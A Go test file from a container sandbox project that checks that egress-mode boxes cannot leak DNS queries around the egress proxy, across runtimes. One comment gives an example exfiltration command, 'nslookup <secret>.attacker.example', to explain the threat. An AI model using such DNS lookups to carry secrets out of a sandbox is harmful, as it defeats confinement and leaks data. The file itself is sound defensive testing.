package sandbox_test

import (
	"bytes"
	"context"
	"crypto/rand"
	"encoding/binary"
	"encoding/hex"
	"io"
	"net"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/moby/moby/client"
	"github.com/plumbhq/plumb/pkg/sandbox"
	"github.com/plumbhq/plumb/pkg/sandbox/sandboxtest"
)

// dnsListener records the raw DNS queries it receives on port 53 of one
// address, over UDP and TCP; it never answers.
type dnsListener struct {
	addr string
	mu   sync.Mutex
	seen [][]byte
	got  chan struct{} // signalled on every query
}

func listenDNS(t *testing.T, ip string) *dnsListener {
	t.Helper()
	l := &dnsListener{addr: ip, got: make(chan struct{}, 1)}
	pc, err := net.ListenPacket("udp", net.JoinHostPort(ip, "53"))
	if err != nil {
		t.Fatalf("DNS listener on %s (needs port 53: run as root): %v", ip, err)
	}
	ln, err := net.Listen("tcp", net.JoinHostPort(ip, "53"))
	if err != nil {
		pc.Close()
		t.Fatalf("DNS listener on %s: %v", ip, err)
	}
	t.Cleanup(func() { pc.Close(); ln.Close() })
	go func() {
		buf := make([]byte, 64<<10)
		for {
			n, _, err := pc.ReadFrom(buf)
			if err != nil {
				return
			}
			l.record(buf[:n])
		}
	}()
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			go func() {
				defer c.Close()
				var n uint16
				if binary.Read(c, binary.BigEndian, &n) != nil {
					return
				}
				q := make([]byte, n)
				if _, err := io.ReadFull(c, q); err == nil {
					l.record(q)
				}
			}()
		}
	}()
	return l
}

func (l *dnsListener) record(q []byte) {
	l.mu.Lock()
	l.seen = append(l.seen, bytes.ToLower(q))
	l.mu.Unlock()
	select {
	case l.got <- struct{}{}:
	default:
	}
}

// count is how many queries for name (or a name under its first label)
// arrived: labels travel verbatim in a query, the dots do not.
func (l *dnsListener) count(name string) int {
	label := []byte(strings.ToLower(strings.Split(name, ".")[0]))
	l.mu.Lock()
	defer l.mu.Unlock()
	n := 0
	for _, q := range l.seen {
		if bytes.Contains(q, label) {
			n++
		}
	}
	return n
}

// dnsQuery is a query for the A record of name (whose labels are short).
func dnsQuery(name string) []byte {
	q := []byte{0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0}
	for _, label := range strings.Split(name, ".") {
		q = append(q, byte(len(label)))
		q = append(q, label...)
	}
	return append(q, 0, 0, 1, 0, 1)
}

// sendDNS sends a query for name to l from the test, over UDP and TCP,
// and waits until l has both.
func sendDNS(t *testing.T, l *dnsListener, name string) {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute) // hang guard
	defer cancel()
	var d net.Dialer
	udp, err := d.DialContext(ctx, "udp", net.JoinHostPort(l.addr, "53"))
	if err != nil {
		t.Fatal(err)
	}
	defer udp.Close()
	tcp, err := d.DialContext(ctx, "tcp", net.JoinHostPort(l.addr, "53"))
	if err != nil {
		t.Fatal(err)
	}
	defer tcp.Close()
	q := dnsQuery(name)
	if _, err := udp.Write(q); err != nil {
		t.Fatal(err)
	}
	if _, err := tcp.Write(append(binary.BigEndian.AppendUint16(nil, uint16(len(q))), q...)); err != nil {
		t.Fatal(err)
	}
	for {
		n := l.count(name)
		if n >= 2 {
			return
		}
		select {
		case <-l.got:
		case <-ctx.Done():
			t.Fatalf("the listener on %s saw %d of the test's 2 queries for %s", l.addr, n, name)
		}
	}
}

func uniqueLabel(prefix string) string {
	b := make([]byte, 6)
	_, _ = rand.Read(b)
	return prefix + hex.EncodeToString(b)
}

// TestEgressDNSDoesNotLeak: the engine's embedded resolver (127.0.0.11 in
// an egress box) forwards the box's queries for names it does not know to
// upstream servers: from the box's network namespace for the servers the
// container is given, and, on engines before 23.0.11/25.0.4/26.0, from the
// engine's own namespace when the host's resolv.conf names a loopback
// server (measured on 20.10; docs/security.md "Egress"). That is a way out
// around the proxy (nslookup <secret>.attacker.example). An egress box
// must therefore be given its own DNS server, one that no query reaches.
//
// The test listens for DNS on 127.0.0.1 and on the default bridge's host
// address and checks, under every runtime, that queries for a unique name
// sent from an egress box (through the embedded resolver, and straight at
// the listeners) never arrive, while queries the test sends do (control).
// The live half can only catch the loopback leak where the engine's host
// resolv.conf names 127.0.0.1 (the test also checks the box's DNS setting
// directly, which holds everywhere).
func TestEgressDNSDoesNotLeak(t *testing.T) {
	e := newEnv(t)
	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Minute) // hang guard
	defer cancel()
	gw := bridgeHostAddr(ctx, t, e.cli)
	listeners := []*dnsListener{listenDNS(t, "127.0.0.1"), listenDNS(t, gw)}
	for _, l := range listeners {
		sendDNS(t, l, uniqueLabel("control")+".example")
	}

	e.cfg.EgressProxy = sandboxtest.EgressProxy(t)
	m := e.manager(t)
	for _, rt := range sandboxtest.Runtimes(t, e.cli) {
		t.Run(rt, func(t *testing.T) {
			box := e.create(t, m, sandbox.CreateSpec{Overrides: sandbox.Template{Network: sandbox.NetworkEgress, Runtime: rt}})
			// The box's only DNS server is its network's gateway, which
			// nothing holds.
			ci, err := e.cli.ContainerInspect(ctx, box.ContainerID, client.ContainerInspectOptions{})
			if err != nil {
				t.Fatal(err)
			}
			ni, err := e.cli.NetworkInspect(ctx, "plumb-egress-"+box.ID, client.NetworkInspectOptions{})
			if err != nil || len(ni.Network.IPAM.Config) == 0 {
				t.Fatalf("the box's network: %v", err)
			}
			if dns, want := ci.Container.HostConfig.DNS, ni.Network.IPAM.Config[0].Gateway; len(dns) != 1 || dns[0] != want {
				t.Errorf("the box's DNS servers are %v, want only its network's gateway %s", dns, want)
			}

			name := uniqueLabel("leak") + ".example"
			cmds := []string{"timeout 10 nslookup " + name + " 2>&1", "timeout 10 wget -q -O- -Y off http://" + name + "/ 2>&1"}
			if rt == "runc" {
				for _, l := range listeners {
					cmds = append(cmds, "timeout 10 nslookup "+name+" "+l.addr+" 2>&1")
				}
			} else {
				// runsc is registered with --network=none: the box has
				// loopback only, so not even the embedded resolver is
				// reachable (and a query straight at an address hangs
				// past busybox's timeout instead of failing).
				if r := exec(t, m, box.ID, "ip -o link show | grep -v ' lo:' | wc -l", 10); strings.TrimSpace(r.Output) != "0" {
					t.Errorf("an egress box under %s has interfaces beyond loopback: %q", rt, r.Output)
				}
			}
			for _, c := range cmds {
				r := exec(t, m, box.ID, c, 20)
				t.Logf("%s: exit %d %q", c, exitCode(r), r.Output)
			}
			// The proxy's name still resolves (the embedded resolver
			// answers it itself), and HTTP_PROXY still works by name.
			if r := exec(t, m, box.ID, "timeout 10 nslookup "+sandbox.EgressProxyHost+" 2>&1", 20); rt == "runc" && exitCode(r) != 0 {
				t.Errorf("the box cannot resolve its proxy: %q", r.Output)
			}
			// A final control: the listeners still record what the test
			// sends, so silence from the box means the box's queries never
			// came.
			for _, l := range listeners {
				sendDNS(t, l, uniqueLabel("after")+".example")
				if n := l.count(name); n > 0 {
					t.Errorf("%d DNS queries for %s from the box reached the listener on %s", n, name, l.addr)
				}
			}
		})
	}
}
